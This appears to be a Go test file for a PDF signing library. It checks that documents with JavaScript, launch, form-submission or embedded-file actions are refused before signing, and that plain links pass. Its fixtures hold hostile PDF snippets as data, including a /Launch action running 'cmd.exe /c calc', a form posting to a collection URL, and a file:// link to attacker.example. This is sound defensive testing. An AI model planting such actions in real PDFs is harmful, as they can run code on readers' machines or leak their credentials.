package pades

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Objects the active content cases share. A link annotation is object 6
// when it is the first extra object of letterWith.
const (
	jsAction   = "<< /S /JavaScript /JS (app.alert\\('Surat ini palsu'\\)) >>"
	fileSpec   = "<< /Type /Filespec /F (lampiran.txt) /UF (lampiran.txt) /EF << /F 7 0 R >> >>"
	fileStream = "<< /Type /EmbeddedFile /Length 18 >>\nstream\nLampiran surat ini\nendstream"
	uriLink    = "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A << /S /URI /URI (https://jdih.example.go.id/perda/2026/7) >> >>"
)

func link(action string) string {
	return "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A " + action + " >>"
}

func activeCases() []struct {
	name, want string
	pdf        []byte
} {
	annot := "/Annots [6 0 R]"
	return []struct {
		name, want string
		pdf        []byte
	}{
		{"open action javascript", "/OpenAction (/JavaScript action) in the catalog", letterWith("/OpenAction "+jsAction, "")},
		{"open action indirect", "/OpenAction (/JavaScript action) in the catalog", letterWith("/OpenAction 6 0 R", "", jsAction)},
		{"open action uri", "/OpenAction (/URI action) in the catalog", letterWith("/OpenAction << /S /URI /URI (https://example.com/seen) >>", "")},
		{"open action goto then javascript", "/OpenAction (/GoTo action) in the catalog", letterWith("/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next "+jsAction+" >>", "")},
		{"document javascript", "/JavaScript name tree in the catalog", letterWith("/Names << /JavaScript << /Names [(init) 6 0 R] >> >>", "", jsAction)},
		{"document javascript indirect names", "/JavaScript name tree in object 6", letterWith("/Names 6 0 R", "", "<< /JavaScript << /Names [(init) 7 0 R] >> >>", jsAction)},
		{"catalog additional actions", "/AA additional actions in the catalog", letterWith("/AA << /WP "+jsAction+" >>", "")},
		{"page additional actions", "/AA additional actions on page 1", letterWith("", "/AA << /O << /S /GoTo /D [4 0 R /Fit] >> >>")},
		{"page additional actions indirect", "/AA additional actions on page 1", letterWith("", "/AA 6 0 R", "<< /C 7 0 R >>", "<< /S /URI /URI (https://example.com/closed) >>")},
		{"annotation javascript", "/JavaScript action in object 6, an annotation on page 1", letterWith("", annot, link(jsAction))},
		{"annotation action object", "/JavaScript action in object 7", letterWith("", annot, link("7 0 R"), jsAction)},
		{"annotation additional actions", "/AA additional actions in object 6, an annotation on page 1", letterWith("", annot, "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E << /S /URI /URI (https://example.com/hover) >> >> >>")},
		{"launch", "/Launch action in object 6", letterWith("", annot, link("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"))},
		{"submit form", "/SubmitForm action in object 6", letterWith("", annot, link("<< /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >>"))},
		{"import data", "/ImportData action in object 6", letterWith("", annot, link("<< /S /ImportData /F (isian.fdf) >>"))},
		{"reset form", "/ResetForm action in object 6", letterWith("", annot, link("<< /S /ResetForm >>"))},
		{"hide", "/Hide action in object 6", letterWith("", annot, link("<< /S /Hide /T (Nominal) >>"))},
		{"set ocg state", "/SetOCGState action in object 6", letterWith("", annot, link("<< /S /SetOCGState /State [/OFF 7 0 R] >>"), "<< /Type /OCG /Name (Lapisan) >>")},
		{"goto remote", "/GoToR action in object 6", letterWith("", annot, link("<< /S /GoToR /F (https://example.com/lain.pdf) /D [0 /Fit] >>"))},
		{"rendition", "/Rendition action in object 6", letterWith("", annot, link("<< /S /Rendition /OP 0 >>"))},
		{"named print", "/Named action /Print in object 6", letterWith("", annot, link("<< /S /Named /N /Print >>"))},
		{"uri then javascript", "/JavaScript action in object 6", letterWith("", annot, link("<< /S /URI /URI (https://example.com/) /Next "+jsAction+" >>"))},
		{"field keystroke script", "/AA additional actions in object 6", letterWith("/AcroForm << /Fields [6 0 R] >>", "", "<< /FT /Tx /T (Nominal) /AA << /K "+jsAction+" >> >>")},
		{"xfa", "/XFA form in AcroForm in the catalog", letterWith("/AcroForm << /Fields [] /XFA 6 0 R >>", "", "<< /Length 11 >>\nstream\n<xdp:xdp/>\nendstream")},
		{"rich media", "/RichMedia annotation in object 6, an annotation on page 1", letterWith("", annot, "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>")},
		{"3d", "/3D annotation in object 6, an annotation on page 1", letterWith("", annot, "<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>")},
		{"embedded files", "/EmbeddedFiles name tree in the catalog", letterWith("/Names << /EmbeddedFiles << /Names [(lampiran.txt) 6 0 R] >> >>", "", fileSpec, fileStream)},
		{"file attachment", "embedded file (/EF in a file specification) in object 7", letterWith("", annot, "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>", fileSpec, "<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream")},
		{"goto embedded", "/GoToE action into an embedded file in object 6", letterWith("", annot, link("<< /S /GoToE /T << /R /C /N (lampiran.pdf) >> >>"))},
		{"portfolio", "/Collection portfolio in the catalog", letterWith("/Collection << /Type /Collection /View /T >>", "")},
		{"unreferenced object", "/JavaScript action in object 6", letterWith("", "", jsAction)},
		{"action with another type", "/JavaScript action in object 7", letterWith("", annot, link("7 0 R"), "<< /Type /StructElem /S /JavaScript /JS (app.alert\\(1\\)) >>")},
		{"javascript uri", `/URI action to a "javascript:" address`, letterWith("", annot, link("<< /S /URI /URI ( JavaScript:app.alert\\(1\\)) >>"))},
		{"relative uri", "/URI action to a relative address", letterWith("", annot, link("<< /S /URI /URI (../../etc/passwd) >>"))},
		{"unc path uri", `/URI action to a "file:" address`, letterWith("", annot, link("<< /S /URI /URI (file://attacker.example/share/x) >>"))},
	}
}

func TestActiveContentRefused(t *testing.T) {
	p := newPKI(t)
	for _, tc := range activeCases() {
		t.Run(tc.name, func(t *testing.T) {
			err := check(tc.pdf)
			if !errors.Is(err, ErrActiveContent) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Inspect: %v, want ErrActiveContent naming %q", err, tc.want)
			}
			signer, cert := p.official(t, "p256")
			if _, err := Sign(context.Background(), tc.pdf, signer, cert, Options{}); !errors.Is(err, ErrActiveContent) {
				t.Fatalf("Sign: %v, want ErrActiveContent", err)
			}
			if signer.calls() != 0 {
				t.Fatal("token asked to sign a document with active content")
			}
		})
	}
}

// TestActiveContentInObjectStream moves a script link into an object
// stream: it is found there too.
func TestActiveContentInObjectStream(t *testing.T) {
	qpdf := need(t, "qpdf", "qpdf")
	in := writeTemp(t, "in.pdf", letterWith("", "/Annots [6 0 R]", link(jsAction)))
	out := filepath.Join(t.TempDir(), "out.pdf")
	if msg, err := run(t, qpdf, "--object-streams=generate", in, out); err != nil {
		t.Fatalf("qpdf: %v: %s", err, msg)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "JavaScript") {
		t.Fatal("qpdf left the action outside an object stream")
	}
	if err := check(b); !errors.Is(err, ErrActiveContent) || !strings.Contains(err.Error(), "/JavaScript action") {
		t.Fatalf("Inspect: %v, want ErrActiveContent naming /JavaScript action", err)
	}
}

func TestPassiveContentAccepted(t *testing.T) {
	p := newPKI(t)
	annot := "/Annots [6 0 R]"
	for _, tc := range []struct {
		name string
		pdf  []byte
	}{
		{"uri link", letterWith("", annot, uriLink)},
		{"uri link action object", letterWith("", annot, link("7 0 R"), "<< /Type /Action /S /URI /URI (https://jdih.example.go.id/) >>")},
		{"goto link", letterWith("", annot, link("<< /S /GoTo /D [4 0 R /XYZ 0 842 0] >>"))},
		{"mailto link", letterWith("", annot, link("<< /S /URI /URI (mailto:sekretariat@example.go.id) >>"))},
		{"named next page", letterWith("", annot, link("<< /S /Named /N /NextPage >>"))},
		{"open at destination", letterWith("/OpenAction [4 0 R /Fit]", "")},
		{"open with goto", letterWith("/OpenAction << /S /GoTo /D [4 0 R /Fit] >>", "")},
		{"empty additional actions", letterWith("", "/AA << >>")},
		{"signature form", letterWith("/AcroForm << /Fields [6 0 R] /SigFlags 3 >>", annot, "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Lama) /Rect [0 0 0 0] /P 4 0 R /F 132 >>")},
		{"border style and page labels", letterWith("/PageLabels << /Nums [0 << /S /D >>] >>", annot, "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /BS << /S /S /W 1 >> /Dest [4 0 R /Fit] >>")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := check(tc.pdf); err != nil {
				t.Fatalf("Inspect: %v", err)
			}
			res, _ := sign(t, p, tc.pdf, "p256", Options{})
			if err := check(res.PDF); err != nil {
				t.Fatalf("Inspect of the signed letter: %v", err)
			}
		})
	}
}

func TestAllowEmbeddedFiles(t *testing.T) {
	p := newPKI(t)
	allow := Limits{AllowEmbeddedFiles: true}
	for _, tc := range []struct {
		name string
		pdf  []byte
	}{
		{"name tree", letterWith("/Names << /EmbeddedFiles << /Names [(lampiran.txt) 6 0 R] >> >>", "", fileSpec, fileStream)},
		{"file attachment", letterWith("", "/Annots [6 0 R]", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>", fileSpec, "<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream")},
		{"goto embedded", letterWith("", "/Annots [6 0 R]", link("<< /S /GoToE /T << /R /C /N (lampiran.pdf) >> >>"))},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := check(tc.pdf); !errors.Is(err, ErrActiveContent) {
				t.Fatalf("Inspect with default limits: %v, want ErrActiveContent", err)
			}
			if _, err := Inspect(tc.pdf, nil, allow); err != nil {
				t.Fatalf("Inspect allowing embedded files: %v", err)
			}
			sign(t, p, tc.pdf, "p256", Options{Limits: allow})
		})
	}
	// A portfolio shows the attachments instead of the letter: still no.
	b := letterWith("/Collection << /Type /Collection >> /Names << /EmbeddedFiles << /Names [(lampiran.txt) 6 0 R] >> >>", "", fileSpec, fileStream)
	if _, err := Inspect(b, nil, allow); !errors.Is(err, ErrActiveContent) || !strings.Contains(err.Error(), "/Collection") {
		t.Fatalf("portfolio allowing embedded files: %v, want ErrActiveContent naming /Collection", err)
	}
	// Embedded files allowed, scripts are not.
	b = letterWith("/Names << /EmbeddedFiles << /Names [(lampiran.txt) 6 0 R] >> /JavaScript << /Names [(x) 8 0 R] >> >>", "", fileSpec, fileStream, jsAction)
	if _, err := Inspect(b, nil, allow); !errors.Is(err, ErrActiveContent) || !strings.Contains(err.Error(), "/JavaScript") {
		t.Fatalf("script allowing embedded files: %v, want ErrActiveContent naming /JavaScript", err)
	}
}

// TestUnreadableObjectRefused: an object in the cross-reference that does
// not parse cannot be judged, so it is not signed past.
func TestUnreadableObjectRefused(t *testing.T) {
	b := letterWith("", "", "<< /S /URI /URI (https://example.com/) >>")
	b = replace(t, b, "6 0 obj\n<<", "6 0 obj\n((")
	if err := check(b); !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), "object 6") {
		t.Fatalf("Inspect: %v, want ErrMalformed naming object 6", err)
	}
}
